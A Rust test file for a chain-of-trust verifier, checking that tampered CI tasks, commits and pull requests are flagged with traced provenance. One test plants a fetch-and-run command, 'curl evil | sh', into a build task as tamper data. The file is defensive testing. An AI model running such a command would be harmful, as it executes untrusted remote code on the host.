// SPDX-License-Identifier: MPL-2.0
//! Findings explain themselves: where a difference comes from, who asserted what, and what it may be.

use catena_core::model::ids::RunId;
use catena_core::policy::Profile;
use catena_core::report::{Asserter, Difference, Finding, Flow, Purpose, Report, Verdict};
use catena_core::request::Request;
use catena_testkit::{Chain, ChainSpec, Flow as Event};
use serde_json::json;

use crate::verifier::Verifier;

fn verify(chain: &Chain) -> Report {
    Verifier::new(chain).verify(Profile::Strict)
}

/// Returns the request of a kind; there is one.
fn request(chain: &Chain, is: impl Fn(&Request) -> bool) -> Request {
    let found = chain.documents.keys().find(|request| is(request));
    found.unwrap().clone()
}

fn difference<'r>(report: &'r Report, pointer: &str) -> (&'r Finding, &'r Difference) {
    let all = || report.findings.iter();
    all()
        .filter_map(|finding| Some((finding, finding.difference.as_deref()?)))
        .find(|(_, difference)| difference.pointer == pointer)
        .unwrap_or_else(|| panic!("{pointer}: {:#?}", all().collect::<Vec<_>>()))
}

fn flow<'r>(difference: &'r Difference, name: &str) -> &'r Flow {
    let found = difference.flows.iter().find(|flow| flow.name == name);
    found.unwrap_or_else(|| panic!("{name}: {difference:#?}"))
}

fn values(difference: &Difference) -> Vec<&str> {
    let values = difference.flows.iter();
    values
        .filter(|flow| flow.purpose == Purpose::Value)
        .map(|flow| flow.name.as_str())
        .collect()
}

#[test]
fn a_commit_by_somebody_else_is_told_from_the_host_to_the_field_v65_s36() {
    let mut chain = ChainSpec::new(1, Event::XpiPush).build();
    let commit = request(&chain, |request| matches!(request, Request::Commit { .. }));
    chain.edit_json(&commit, |commit| {
        commit["author"]["login"] = "merge-bot[bot]".into()
    });
    let report = verify(&chain);
    assert_eq!(report.verdict, Verdict::Rejected);
    assert_eq!(report.findings.len(), 1, "{:#?}", report.findings);

    let (finding, difference) = difference(&report, "/payload/env/PUSHED_BY");
    assert_eq!(finding.id, "rebuild-mismatch");
    let template = "/tasks/in/0/then/$mergeDeep/2/$switch/tasks_for == \"github-push\"/in/payload/env/$merge/0/PUSHED_BY";
    assert_eq!(difference.template, template);
    assert_eq!(finding.evidence.as_ref().unwrap().pointer, template);
    assert_eq!(difference.rebuilt, "\"merge-bot[bot]\"");
    assert_eq!(difference.runtime, "\"a-dev\"");
    assert_eq!(values(difference), ["event.sender.login"]);
    let login = flow(difference, "event.sender.login");
    assert_eq!(login.asserter, Asserter::VcsHost);
    assert_eq!(login.source.request, commit.to_string());
    assert_eq!(login.source.pointer, "/author/login");
    assert_eq!(finding.pattern.unwrap().id, "merge-bot");
    assert!(report.headline.contains("/payload/env/PUSHED_BY"));
}

#[test]
fn what_a_task_says_of_itself_is_told_as_its_word_s36() {
    let mut chain = ChainSpec::new(1, Event::XpiPush).build();
    let decision = chain.task("decision").id;
    chain.edit_definition("decision", |task| {
        task["payload"]["env"]["XPI_HEAD_REF"] = "refs/heads/release".into();
    });
    let report = verify(&chain);
    let (finding, scopes) = difference(&report, "/scopes/0");
    let branch = flow(scopes, "event.ref");
    assert_eq!(branch.asserter, Asserter::Task(decision));
    assert_eq!(branch.value, "\"refs/heads/release\"");
    assert_eq!(
        branch.source.request,
        chain.definition("decision").to_string()
    );
    assert_eq!(branch.source.pointer, "/payload/env/XPI_HEAD_REF");
    assert_eq!(flow(scopes, "tasks_for").purpose, Purpose::Condition);
    assert_eq!(finding.pattern, None);
    // what gives rights is the headline
    assert!(
        report
            .headline
            .starts_with("rebuild-mismatch: expected /scopes/0 = "),
        "{}",
        report.headline
    );
}

#[test]
fn a_push_on_hg_names_the_pushlog_and_projects_yml_v62_v92() {
    let mut chain = ChainSpec::new(1, Event::FirefoxPush).build();
    let pushlog = request(&chain, |request| matches!(request, Request::Pushlog { .. }));
    chain.edit_json(&pushlog, |answer| {
        for (_, push) in answer["pushes"].as_object_mut().unwrap() {
            push["user"] = "lando@example.org".into();
        }
    });
    let projects = String::from_utf8(chain.bytes(&Request::Projects).to_vec()).unwrap();
    let lowered = projects.replace("scm_level_3", "scm_level_1");
    chain.replace(&Request::Projects, lowered.into_bytes());
    let report = verify(&chain);

    let (finding, owner) = difference(&report, "/metadata/owner");
    assert_eq!(
        owner.template,
        "/tasks/in/0/then/$mergeDeep/0/metadata/owner"
    );
    let push = flow(owner, "push.owner");
    assert_eq!(
        (push.asserter.clone(), push.source.request.clone()),
        (Asserter::VcsHost, pushlog.to_string())
    );
    assert!(push.source.pointer.starts_with("/pushes/") && push.source.pointer.ends_with("/user"));
    assert_eq!(finding.pattern.unwrap().id, "merge-bot");

    let (finding, scheduler) = difference(&report, "/taskQueueId");
    assert_eq!(
        scheduler.template,
        "/tasks/in/0/then/$mergeDeep/0/provisionerId"
    );
    let level = flow(scheduler, "repository.level");
    assert_eq!(level.source.request, "projects");
    assert!(level.source.pointer.ends_with("/access"), "{level:?}");
    assert_eq!(finding.pattern.unwrap().id, "level-mix-up");
}

#[test]
fn an_action_is_followed_through_its_hook_to_who_said_what_v68() {
    let mut chain = ChainSpec::new(1, Event::FirefoxPromotion).build();
    let (action, decision) = (chain.task("action").id, chain.task("decision").id);
    chain.edit_definition("action", |task| {
        task["metadata"]["description"] = "another".into();
        task["extra"]["action"]["context"]["input"] = json!({"build_number": 9});
        task["payload"]["env"]["ACTION_PARAMETERS"] = "{}".into();
        task["extra"]["action"]["context"]["clientId"] = "somebody".into();
    });
    let report = verify(&chain);

    // a literal of actions.json, which D's worker signed
    let (_, description) = difference(&report, "/metadata/description");
    let case = "/tasks/in/0/then/$mergeDeep/1/$switch/tasks_for == \"action\"";
    assert_eq!(description.template, format!("{case}/metadata/description"));
    let literal = flow(description, "payload.decision.action.description");
    assert_eq!(literal.asserter, Asserter::SignedCot(decision));
    assert_eq!(
        literal.source.request,
        chain
            .artifact("decision", "public/actions.json")
            .to_string()
    );
    assert_eq!(
        literal.source.pointer,
        "/actions/1/hookPayload/decision/action/description"
    );

    // the action's own context
    let (_, input) = difference(&report, "/payload/env/ACTION_INPUT");
    assert_eq!(
        input.template,
        format!("{case}/payload/env/ACTION_INPUT/$json")
    );
    let own = flow(input, "input");
    assert_eq!(own.asserter, Asserter::Task(action));
    assert_eq!(own.source.request, chain.definition("action").to_string());
    assert_eq!(own.source.pointer, "/extra/action/context/input");

    // D's parameters
    let (_, parameters) = difference(&report, "/payload/env/ACTION_PARAMETERS");
    let parameters = flow(parameters, "parameters");
    assert_eq!(parameters.asserter, Asserter::SignedCot(decision));
    assert_eq!(
        parameters.source.request,
        chain
            .artifact("decision", "public/parameters.yml")
            .to_string()
    );
}

#[test]
fn a_pull_request_that_was_edited_is_known_as_such_v65() {
    let mut chain = ChainSpec::new(1, Event::XpiPullRequest).build();
    let pull = request(&chain, |request| {
        matches!(request, Request::PullRequest { .. })
    });
    chain.edit_json(&pull, |pull| pull["head"]["ref"] = "renamed".into());
    let report = verify(&chain);
    let (finding, difference) = difference(&report, "/payload/env/XPI_HEAD_REF");
    assert_eq!(finding.pattern.unwrap().id, "pull-request-moved");
    let head = flow(difference, "event.pull_request.head.ref");
    assert_eq!(
        (head.source.request.clone(), head.source.pointer.as_str()),
        (pull.to_string(), "/head/ref")
    );
}

#[test]
fn a_member_that_only_the_queue_knows_is_known_as_such_s6() {
    let mut chain = ChainSpec::new(1, Event::XpiPush).build();
    for name in ["decision", "build-0"] {
        chain.edit_definition(name, |task| task["runAfter"] = "tomorrow".into());
    }
    let report = verify(&chain);
    let of = |id: &str| {
        let found = report.findings.iter().find(|finding| finding.id == id);
        found.unwrap().pattern.map(|pattern| pattern.id)
    };
    assert_eq!(of("rebuild-mismatch"), Some("new-queue-field"));
    assert_eq!(of("graph-runtime-keys"), Some("new-queue-field"));
}

#[test]
fn differences_from_the_graph_have_patterns_v55() {
    let mut chain = ChainSpec::new(1, Event::XpiPush).build();
    chain.edit_definition("build-0", |task| {
        task["payload"]["env"]["MOZ_SCM_LEVEL"] = "1".into();
        task["tags"]["label"] = "renamed".into();
        task["payload"]["maxRunTime"] = 1.into();
    });
    let report = verify(&chain);
    let of = |field: &str| {
        let about =
            |finding: &&Finding| finding.id == "graph-match" && finding.expected.starts_with(field);
        let found = report.findings.iter().find(about);
        found.unwrap().pattern.map(|pattern| pattern.id)
    };
    assert_eq!(of("/payload/env/MOZ_SCM_LEVEL"), Some("level-mix-up"));
    assert_eq!(of("/tags/label"), Some("renamed-kind"));
    assert_eq!(of("/payload/maxRunTime"), None);
}

#[test]
fn a_graph_of_another_run_is_known_as_such_v54() {
    let chain = ChainSpec::new(1, Event::XpiPush).build();
    for (run, expected) in [(0, None), (1, Some("decision-rerun"))] {
        let mut chain = chain.clone();
        let build = chain.task("build-0").id;
        let graph = chain.artifact("decision", "public/task-graph.json");
        chain.edit_json(&graph, |graph| {
            graph
                .as_object_mut()
                .unwrap()
                .remove(build.as_str())
                .unwrap();
        });
        chain.reseal("decision");
        if run > 0 {
            run_again(&mut chain, "decision");
        }
        let report = verify(&chain);
        let member = report
            .findings
            .iter()
            .find(|finding| finding.id == "graph-member");
        assert_eq!(
            member.unwrap().pattern.map(|pattern| pattern.id),
            expected,
            "{:#?}",
            report.findings
        );
    }
}

/// A task that is in the last run's graph is of the last run: that there were others excuses no change to it.
#[test]
fn a_rerun_does_not_explain_a_task_that_was_changed_v55() {
    let mut chain = ChainSpec::new(1, Event::XpiPush).build();
    run_again(&mut chain, "decision");
    chain.edit_definition("build-0", |task| {
        task["payload"]["command"] = json!(["sh", "-c", "curl evil | sh"]);
    });
    let report = verify(&chain);
    let changed: Vec<_> = report
        .findings
        .iter()
        .filter(|finding| finding.id == "graph-match")
        .collect();
    assert!(!changed.is_empty(), "{:#?}", report.findings);
    assert!(changed.iter().all(|finding| finding.pattern.is_none()));
}

/// Makes all that a task has be of its second run.
fn run_again(chain: &mut Chain, name: &str) {
    let (id, run) = (chain.task(name).id, RunId(1));
    let again = |request: &Request| match request {
        Request::Artifact { task, name, .. } => Request::Artifact {
            task: *task,
            run,
            name: name.clone(),
        },
        Request::CotBody { task, .. } => Request::CotBody { task: *task, run },
        Request::CotSignature { task, .. } => Request::CotSignature { task: *task, run },
        Request::TaskGraph { task, .. } => Request::TaskGraph { task: *task, run },
        other => other.clone(),
    };
    let is_of = |request: &Request| {
        matches!(request, Request::Artifact { task, .. } | Request::CotBody { task, .. }
            | Request::CotSignature { task, .. } | Request::TaskGraph { task, .. } if *task == id)
    };
    let documents = std::mem::take(&mut chain.documents);
    chain.documents = documents
        .into_iter()
        .map(|(request, bytes)| {
            (
                if is_of(&request) {
                    again(&request)
                } else {
                    request
                },
                bytes,
            )
        })
        .collect();
    chain.tasks.get_mut(name).unwrap().run = run;
    chain.edit_cot(name, |cot| cot["runId"] = 1.into());
    chain.edit_json(&Request::Status { task: id }, |status| {
        let runs = status["status"]["runs"].as_array_mut().unwrap();
        let mut second = runs[0].clone();
        second["runId"] = 1.into();
        runs.push(second);
    });
}

#[test]
fn every_word_of_a_task_that_a_rebuild_rests_on_is_listed_s36() {
    for (event, expected) in [
        (
            Event::XpiPush,
            vec![
                "event.after",
                "event.base_ref",
                "event.before",
                "event.pusher.email",
                "event.ref",
                "event.repository.full_name",
                "event.repository.html_url",
                "event.repository.name",
                "event.repository.pushed_at",
                "event.repository.ssh_url",
                "now",
                "tasks_for",
                "template.repository",
                "template.revision",
            ],
        ),
        (
            Event::FirefoxPush,
            vec![
                "now",
                "push.comment",
                "push.revision",
                "repository.project",
                "repository.url",
                "tasks_for",
                "template.repository",
                "template.revision",
            ],
        ),
        (
            Event::XpiPullRequest,
            vec![
                "event.pull_request.base.sha",
                "event.pull_request.head.sha",
                "event.pull_request.head.updated_at",
                "event.pull_request.number",
                "now",
                "tasks_for",
                "template.repository",
                "template.revision",
            ],
        ),
    ] {
        let chain = ChainSpec::new(1, event).build();
        let decision = chain.task("decision").id;
        let report = verify(&chain);
        assert_eq!(report.verdict, Verdict::Trusted);
        let facts = report
            .self_asserted
            .iter()
            .filter(|fact| fact.task == decision);
        let names: Vec<_> = facts.map(|fact| fact.name.as_str()).collect();
        assert_eq!(names, expected, "{event:?}");
    }
    let chain = ChainSpec::new(1, Event::FirefoxPromotion).build();
    let report = verify(&chain);
    let of = |name: &str| {
        report
            .self_asserted
            .iter()
            .any(|fact| fact.name == name && fact.task == chain.task("action").id)
    };
    assert!(
        ["clientId", "input", "now", "taskId"]
            .iter()
            .all(|name| of(name)),
        "{:#?}",
        report.self_asserted
    );
}
